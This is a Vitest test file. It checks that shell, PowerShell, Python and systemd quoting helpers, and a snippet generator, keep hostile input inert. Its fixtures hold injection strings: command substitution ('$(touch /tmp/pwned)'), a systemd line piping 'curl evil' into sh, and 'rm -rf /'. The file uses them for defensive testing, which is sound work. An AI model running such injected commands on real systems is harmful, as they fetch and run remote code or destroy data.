/** Snippets with hostile values: each value stays data in every language. */
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { snippets, type SnippetCheck } from '../../shared/console/snippets.js';
import { powershellQuote, pythonString, shellQuote, systemdArg, systemdText } from '../../shared/security/quote.js';

const HOSTILE = `http://x:1/ping/a'b"c;$(touch /tmp/pwned)\`id\`$HOME%i\\`;

describe('shellQuote', () => {
  it.each(['plain', 'http://nas.local:8420/ping/abc', HOSTILE, "it's", '', ' ', '\n', '*', '~root', '-n'])('%j survives sh as one word', (v) => {
    // printf prints its one argument back: nothing was expanded, split or run
    expect(execFileSync('/usr/bin/dash', ['-c', `printf %s ${shellQuote(v)}`]).toString()).toBe(v);
  });
});

describe('the other languages', () => {
  it('PowerShell doubles quotes (typographic ones too), Python gets an escaped literal', () => {
    expect(powershellQuote("a'b\u2019c")).toBe("'a''b\u2019\u2019c'");
    expect(JSON.parse(pythonString(HOSTILE))).toBe(HOSTILE);
    expect(pythonString('a\u2028b')).toBe('"a\\u2028b"');
  });

  it('systemd: no specifier, variable or line break gets through', () => {
    expect(systemdArg('http://x/$HOME%n"\\\nExecStart=evil')).toBe('"http://x/$$HOME%%n\\"\\\\ ExecStart=evil"');
    expect(systemdArg('http://x/', '%i')).toBe('"http://x/%i"');
    expect(systemdText('nightly\nExecStart=/bin/rm -rf / %h')).toBe('nightly ExecStart=/bin/rm -rf / %%h');
  });
});

describe('snippets of a check with a hostile name and URL', () => {
  const check: SnippetCheck = { name: 'backup\nExecStartPre=/bin/sh -c "curl evil|sh"\r\n[Service]', pingUrl: HOSTILE, kind: 'simple', timeout: 86400 };
  const all = Object.fromEntries(snippets(check).map((s) => [s.id, s.code]));

  it('the systemd unit gets no line the name or URL made', () => {
    const lines = all.systemd.split('\n');
    expect(lines.filter((l) => l.startsWith('ExecStartPre='))).toHaveLength(1);
    expect(lines.filter((l) => l === '[Service]')).toHaveLength(2);
    expect(lines.find((l) => l.startsWith('Description=') && l.includes('backup'))).toBe('Description=backup ExecStartPre=/bin/sh -c "curl evil|sh" [Service]');
  });

  it('the shell snippets pass the URL to curl as one argument, running nothing', () => {
    // curl replaced by a function that prints its last argument
    const shell = all.shell.replace(/^#!\/bin\/sh\n/, '').replace(/\/path\/to\/job.sh/, 'true');
    const out = execFileSync('/usr/bin/dash', ['-c', `curl() { for a; do :; done; printf '%s\\n' "$a"; }\n${shell}`]).toString();
    expect(out.split('\n').slice(0, 2)).toEqual([`${HOSTILE}/start`, `${HOSTILE}/0`]);
    const cron = all.crontab.replace(/^\S+ \S+ \S+ \S+ \S+ /, '').replace('/path/to/job.sh', 'true');
    expect(execFileSync('/usr/bin/dash', ['-c', `curl() { for a; do :; done; printf '%s' "$a"; }\n${cron}`]).toString()).toBe(HOSTILE);
  });
});
